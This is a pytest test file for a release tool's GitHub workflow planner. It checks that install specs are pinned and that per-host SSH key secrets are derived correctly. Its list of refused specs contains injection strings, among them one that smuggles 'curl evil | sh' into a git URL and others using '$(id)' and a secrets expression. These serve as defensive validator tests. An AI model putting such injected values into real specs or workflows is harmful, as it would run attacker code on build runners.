"""``relman init github``'s rules without files: which install sources are pinned, the
default one, and the secrets a runner's deploy needs (:mod:`relman.versioning.github`)."""

from __future__ import annotations

import tomllib
from pathlib import Path

import pytest

import relman
from relman.config import RelmanConfig
from relman.domain.errors import InvalidInput
from relman.versioning.github import (
    WorkflowPlan,
    check_relman_spec,
    default_relman_spec,
    plan_workflows,
)

SHA = "0123456789abcdef0123456789abcdef01234567"
HASH = "ab" * 32
SPEC = f"relman @ git+https://example.org/team/relman@{SHA}"


@pytest.mark.parametrize(
    "spec",
    [
        f"relman @ git+https://example.org/team/relman@{SHA}",
        "relman @ git+https://example.org/team/relman.git@v1.2.3",
        "relman @ git+ssh://git@example.org/team/relman.git@v0.1.0-rc.1",
        "relman @ git+file:///srv/git/relman@1.4.0",
        f"relman @ https://example.org/dl/relman-0.1.0-py3-none-any.whl#sha256={HASH}",
        f"relman @ file:///tmp/wheels/relman-0.1.0-py3-none-any.whl#sha256={HASH}",
    ],
)
def test_pinned_specs_are_accepted(spec: str) -> None:
    assert check_relman_spec(f"  {spec} ") == spec


@pytest.mark.parametrize(
    "spec",
    [
        "relman",  # the name anyone may register on PyPI
        "relman==0.1.0",
        "relman>=0.1",
        "relman @ git+https://example.org/team/relman",  # no ref: the default branch
        "relman @ git+https://example.org/team/relman@main",  # a branch moves
        f"relman @ git+https://example.org/team/relman@{SHA[:12]}",  # short sha: ambiguous
        "relman @ https://example.org/dl/relman-0.1.0-py3-none-any.whl",  # no hash
        f"relman @ http://example.org/dl/relman-0.1.0-py3-none-any.whl#sha256={HASH}",
        f"other @ git+https://example.org/team/relman@{SHA}",
        f'relman @ git+https://example.org/x"; curl evil | sh; "@{SHA}',  # shell quoting
        "relman @ git+https://example.org/$(id)@v1.0.0",
        "relman @ git+https://example.org/${{ secrets.X }}@v1.0.0",
    ],
)
def test_unpinned_or_unsafe_specs_are_refused(spec: str) -> None:
    with pytest.raises(InvalidInput) as refused:
        check_relman_spec(spec)
    assert refused.value.field == "relman_spec"
    assert "40-hex commit or version tag" in str(refused.value)


def test_the_default_is_this_relman_from_its_source_repository() -> None:
    # pyproject's [project.urls] Source, read from the installed metadata
    spec = default_relman_spec()
    assert spec.startswith("relman @ git+https://")
    assert spec.endswith(f"@v{relman.__version__}")
    assert check_relman_spec(spec) == spec


def config(text: str) -> RelmanConfig:
    return RelmanConfig.model_validate(tomllib.loads(text))


SERVICE = """
[services.web]
repo = "https://example.org/team/web.git"
workdir = "{root}/web"
start_command = ["sh", "start.sh"]
health = { url = "http://{address}:8000/health" }
"""


def plan(text: str, service: str = "web") -> WorkflowPlan:
    return plan_workflows(config(SERVICE + text), service, SPEC, Path("relman.toml"))


def test_hosts_with_different_key_files_get_a_secret_each() -> None:
    made = plan(
        """
[hosts.stage-a]
address = "192.0.2.1"
key_file = "keys/a"
known_hosts = "keys/known_hosts"
root = "/srv/a"
[hosts.stage-b]
address = "192.0.2.2"
key_file = "keys/b"
known_hosts = "keys/known_hosts"
root = "/srv/b"
[environments.stage]
hosts = ["stage-a", "stage-b"]
executor = "github"
"""
    )
    assert made.stage is not None
    assert [(f.secret, f.path) for f in made.stage.files] == [
        ("RELMAN_SSH_KEY_STAGE_A", "keys/a"),
        ("RELMAN_SSH_KEY_STAGE_B", "keys/b"),
        ("RELMAN_KNOWN_HOSTS", "keys/known_hosts"),
    ]
    assert made.secrets() == [
        "LOOM_INTERSERVER_SECRET_KEY",
        "RELMAN_SSH_KEY_STAGE_A",
        "RELMAN_SSH_KEY_STAGE_B",
        "RELMAN_KNOWN_HOSTS",
    ]


def test_a_host_without_credentials_and_an_absolute_path_are_warned_about() -> None:
    made = plan(
        """
[hosts.prod]
address = "192.0.2.3"
known_hosts = "/etc/relman/known_hosts"
[environments.production]
hosts = ["prod"]
executor = "github"
"""
    )
    assert made.production is not None
    assert made.production.secrets == ["RELMAN_KNOWN_HOSTS"]
    assert any("host prod has no key_file or password_env" in w for w in made.warnings)
    assert any("hosts.prod.known_hosts is absolute" in w for w in made.warnings)


def test_a_path_a_shell_step_cannot_write_safely_is_refused() -> None:
    with pytest.raises(InvalidInput) as refused:
        plan(
            """
[hosts.stage]
address = "192.0.2.1"
key_file = "keys/it's"
known_hosts = "keys/known_hosts"
[environments.stage]
hosts = ["stage"]
executor = "github"
"""
        )
    assert refused.value.field == "hosts.stage.key_file"


def test_local_transport_hosts_need_no_secrets() -> None:
    made = plan(
        """
[hosts.box]
transport = "local"
[environments.stage]
hosts = ["box"]
executor = "github"
"""
    )
    assert made.stage is not None and made.stage.secrets == []
    assert made.secrets() == ["LOOM_INTERSERVER_SECRET_KEY"]
